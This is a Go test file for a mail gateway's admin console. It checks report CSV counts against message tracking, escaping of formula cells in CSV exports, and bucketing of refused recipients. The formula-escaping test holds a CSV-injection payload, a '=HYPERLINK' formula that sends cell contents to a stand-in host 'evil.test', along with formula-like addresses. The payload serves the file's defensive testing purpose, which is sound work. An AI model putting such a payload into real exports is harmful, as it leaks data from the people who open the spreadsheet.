package web_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/smtp"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mailgate/mailgate/internal/store"
	"github.com/mailgate/mailgate/internal/testutil/consoletest"
	"github.com/mailgate/mailgate/internal/testutil/mgtest"
	"github.com/mailgate/mailgate/internal/web"
)

// The report CSV agrees with message tracking: mail delivered, quarantined,
// released, deleted and rejected over SMTP and the console is counted per
// address exactly as tracking shows it.
func TestReportCSVMatchesTracking(t *testing.T) {
	e := consoletest.Start(t, consoletest.Options{})
	ctx := context.Background()
	for _, le := range []store.ListEntry{
		{Kind: "deny", Field: "subject", Mode: "contains", Value: "QUAR", Action: "quarantine"},
		{Kind: "deny", Field: "subject", Mode: "contains", Value: "REJ", Action: "reject"},
	} {
		le.TenantID, le.Scope, le.Owner = e.Tenant.ID, store.ScopeDomain, "example.test"
		if _, err := e.Store.AddListEntry(ctx, le); err != nil {
			t.Fatal(err)
		}
	}
	time.Sleep(1100 * time.Millisecond) // the list index refreshes at most once a second
	send := func(to, subject string) error {
		return plainSend(e.InboundAddr(), "news@sender.example", to,
			"From: news@sender.example\r\nTo: "+to+"\r\nSubject: "+subject+"\r\n\r\nbody\r\n")
	}
	for i := 0; i < 3; i++ {
		if err := send("alice@example.test", fmt.Sprintf("hello %d", i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := send("alice@example.test", "REJ this"); err == nil || !strings.Contains(err.Error(), "55") {
		t.Fatalf("rejected message: %v", err)
	}
	for i := 0; i < 2; i++ {
		if err := send("bob@example.test", fmt.Sprintf("QUAR %d", i)); err != nil {
			t.Fatal(err)
		}
	}
	var items []store.QuarantineItem
	mgtest.WaitFor(t, 10*time.Second, "two quarantined copies", func() bool {
		items, _, _ = e.Store.SearchQuarantine(ctx, store.QuarantineFilter{TenantID: e.Tenant.ID, Rcpt: "bob@example.test", State: store.QHeld, Sort: "subject", Asc: true})
		return len(items) == 2
	})
	c := e.NewClient(t)
	c.Login(consoletest.AdminA)
	if st, _, body := c.Post("/quarantine/"+items[0].ID+"/release", nil); st != 303 {
		t.Fatalf("release: %d %s", st, body)
	}
	if st, _, body := c.Post("/quarantine/"+items[1].ID+"/block", nil); st != 303 {
		t.Fatalf("block: %d %s", st, body)
	}
	// An administrator's block is for the whole domain.
	es, _ := e.Store.ListEntries(ctx, e.Tenant.ID)
	blocked := false
	for _, le := range es {
		blocked = blocked || (le.Kind == "deny" && le.Scope == store.ScopeDomain && le.Owner == "example.test" && le.Value == "news@sender.example")
	}
	if !blocked {
		t.Fatalf("no domain-wide deny entry after an administrator's block: %+v", es)
	}
	mgtest.WaitFor(t, 15*time.Second, "deliveries", func() bool { return len(e.Down.Messages()) == 4 })

	// Counts from tracking, through the API.
	count := func(q string) int64 {
		var rows []store.TrackRow
		if st := e.API(t, e.Tokens["a-read"], "GET", "/messages?limit=500&"+q, nil, &rows); st != 200 {
			t.Fatalf("tracking %s: %d", q, st)
		}
		var n int64
		for _, r := range rows {
			for _, rc := range r.Recipients {
				if strings.Contains(q, "rcpt="+rc.Addr) {
					n++
				}
			}
		}
		return n
	}
	want := map[string]map[string]int64{
		"alice@example.test": {"delivered": count("rcpt=alice@example.test&verdict=delivered"), "rejected": count("rcpt=alice@example.test&verdict=rejected")},
		"bob@example.test":   {"quarantined": count("rcpt=bob@example.test&verdict=quarantined"), "delivered": count("rcpt=bob@example.test&verdict=delivered")},
	}
	// The scenario itself, so the cross-check cannot pass on two wrong zeros.
	if want["alice@example.test"]["delivered"] != 3 || want["alice@example.test"]["rejected"] != 1 ||
		want["bob@example.test"]["quarantined"] != 2 || want["bob@example.test"]["delivered"] != 1 {
		t.Fatalf("tracking counts: %v", want)
	}
	want["alice@example.test"]["received"] = 4
	want["bob@example.test"]["received"] = 2
	want["bob@example.test"]["released"] = 1
	want["bob@example.test"]["deleted"] = 1

	st, body := c.Get("/reports.csv?" + url.Values{"by": {"address"}}.Encode())
	if st != 200 {
		t.Fatalf("csv: %d", st)
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	head := recs[0]
	wantHead := append([]string{"period", "domain", "address"}, store.Metrics...)
	if strings.Join(head, ",") != strings.Join(wantHead, ",") {
		t.Fatalf("CSV header %v, want %v", head, wantHead)
	}
	got := map[string]map[string]int64{}
	for _, rec := range recs[1:] {
		if got[rec[2]] == nil {
			got[rec[2]] = map[string]int64{}
		}
		for i, m := range store.Metrics {
			n, err := strconv.ParseInt(rec[3+i], 10, 64)
			if err != nil {
				t.Fatalf("CSV cell %q: %v", rec[3+i], err)
			}
			got[rec[2]][m] += n
		}
	}
	for a, ms := range want {
		for m, n := range ms {
			if got[a][m] != n {
				t.Errorf("%s %s: CSV %d, tracking %d", a, m, got[a][m], n)
			}
		}
	}
}

// formulaStart reports whether a spreadsheet would evaluate cell.
func formulaStart(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r\n\x00", rune(cell[0]))
}

// checkCSVSafe parses body and fails on any cell a spreadsheet would run as
// a formula; it returns the records.
func checkCSVSafe(t *testing.T, what, body string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v in %q", what, err, body)
	}
	for _, rec := range recs {
		for _, c := range rec {
			if formulaStart(c) {
				t.Errorf("%s: cell %q would be evaluated as a formula (row %q)", what, c, rec)
			}
		}
	}
	return recs
}

// Every CSV export neutralises cells a spreadsheet would evaluate: an
// outside sender picks the recipient address (RCPT TO:<=1+2@...>) and an
// administrator's import the display names. Counts stay numbers.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	e := consoletest.Start(t, consoletest.Options{})
	ctx := context.Background()
	const evil = "=1+2@example.test"
	const evilName = `=HYPERLINK("http://evil.test/?"&A1,"open")`
	for _, a := range []string{evil, "-5+5@example.test"} {
		if _, err := e.Store.CreateUser(ctx, e.Tenant.ID, a); err != nil {
			t.Fatal(err)
		}
	}
	if err := e.Store.SetDisplayName(ctx, e.Tenant.ID, evil, evilName); err != nil {
		t.Fatal(err)
	}
	if err := plainSend(e.InboundAddr(), "news@sender.example", evil,
		"From: news@sender.example\r\nTo: x@example.test\r\nSubject: hi\r\n\r\nbody\r\n"); err != nil {
		t.Fatalf("mail to %s: %v", evil, err)
	}
	mgtest.WaitFor(t, 15*time.Second, "delivery", func() bool { return len(e.Down.Messages()) == 1 })

	c := e.NewClient(t)
	c.Login(consoletest.AdminA)
	st, body := c.Get("/reports.csv?by=address")
	if st != 200 {
		t.Fatalf("reports.csv: %d", st)
	}
	found := false
	for _, rec := range checkCSVSafe(t, "console report CSV", body)[1:] {
		if rec[2] == "'"+evil {
			found = true
			if n, err := strconv.ParseInt(rec[3], 10, 64); err != nil || n != 1 {
				t.Errorf("received count %q for %s", rec[3], evil)
			}
		}
	}
	if !found {
		t.Errorf("report CSV has no row for %s (quoted): %q", evil, body)
	}
	st, _, b := e.RawAPI(t, "Bearer "+e.Tokens["a-read"], "GET", "/reports?format=csv&by=address", nil)
	if st != 200 || !strings.Contains(string(b), "'"+evil) {
		t.Fatalf("API report CSV: %d %q", st, b)
	}
	checkCSVSafe(t, "API report CSV", string(b))

	st, body = c.Get("/users.csv")
	if st != 200 {
		t.Fatalf("users.csv: %d", st)
	}
	recs := checkCSVSafe(t, "users CSV", body)
	want := map[string]bool{"'" + evil + "," + "'" + evilName: false, "'-5+5@example.test,": false}
	for _, rec := range recs {
		k := strings.Join(rec, ",")
		if _, ok := want[k]; ok {
			want[k] = true
		}
	}
	for k, ok := range want {
		if !ok {
			t.Errorf("users CSV lacks %q: %q", k, body)
		}
	}

	// The shared writer (console, API, CLI) keeps numbers as numbers,
	// negative ones too, while a text cell that looks like one is quoted.
	var buf strings.Builder
	counts := map[string]int64{}
	for _, m := range store.Metrics {
		counts[m] = -3
	}
	if err := web.WriteReportCSV(&buf, []store.ReportRow{{Period: "2026-01", Domain: "example.test", Address: "-3@example.test", Counts: counts}}); err != nil {
		t.Fatal(err)
	}
	rec, _ := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if rec[1][2] != "'-3@example.test" || rec[1][3] != "-3" {
		t.Errorf("row %q: want the address quoted and the count -3 as a number", rec[1])
	}
}

// An outside sender guessing addresses of a served domain is refused at
// RCPT; reports count every guess under one "(unknown recipients)" row of
// the domain, whatever the addresses, while tracking keeps each of them.
func TestRefusedRecipientsOneReportRow(t *testing.T) {
	e := consoletest.Start(t, consoletest.Options{})
	const conns, perConn = 6, 8
	n := 0
	for range conns {
		c, err := smtp.Dial(e.InboundAddr())
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Mail("guesser@bad.example"); err != nil {
			t.Fatal(err)
		}
		for range perConn {
			n++
			to := fmt.Sprintf("=%d+%d@example.test", n, n)
			if err := c.Rcpt(to); err == nil || !strings.HasPrefix(err.Error(), "550") {
				t.Fatalf("RCPT TO:<%s>: %v, want 550 unknown user", to, err)
			}
		}
		c.Quit()
	}
	cl := e.NewClient(t)
	cl.Login(consoletest.AdminA)
	var recs [][]string
	mgtest.WaitFor(t, 10*time.Second, "refusals in the report", func() bool {
		st, body := cl.Get("/reports.csv?by=address")
		if st != 200 {
			t.Fatalf("reports.csv: %d", st)
		}
		recs = checkCSVSafe(t, "report CSV", body)
		return len(recs) == 2 && recs[1][9] == strconv.Itoa(conns*perConn)
	})
	if r := recs[1]; r[1] != "example.test" || r[2] != "" || r[3] != strconv.Itoa(conns*perConn) {
		t.Fatalf("report row %q, want example.test's unknown-recipient bucket with %d received and rejected", r, conns*perConn)
	}
	st, page := cl.Get("/reports?by=address")
	if st != 200 || !strings.Contains(page, "(unknown recipients)") || strings.Contains(page, "+7@example.test") {
		t.Errorf("reports page: %d, want one (unknown recipients) row and no guessed address", st)
	}
	var rows []store.TrackRow
	if st := e.API(t, e.Tokens["a-read"], "GET", "/messages?verdict=rejected&rcpt="+url.QueryEscape("=7+7@"), nil, &rows); st != 200 || len(rows) != 1 {
		t.Errorf("tracking of one refused guess: %d, %d rows", st, len(rows))
	}
}
